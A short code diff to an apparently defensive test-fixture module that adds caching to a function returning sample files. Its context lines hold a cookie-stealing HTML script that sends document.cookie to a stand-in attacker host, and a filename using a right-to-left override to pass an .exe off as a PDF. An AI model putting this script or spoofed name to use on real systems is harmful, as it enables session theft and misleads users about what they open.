@@ -11,6 +11,7 @@ import struct
 import tarfile
 import zipfile
 import zlib
+from functools import cache
 
 import pillow_heif
 from PIL import Image, TiffImagePlugin
@@ -112,6 +113,7 @@ HTML = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></
 RTL = "facture\u202efdp.exe"
 
 
+@cache
 def files() -> dict[str, tuple[str, bytes]]:
     """Return ``what it is → (name it is sent under, bytes)``."""
     jpeg, png = picture(), picture("PNG")
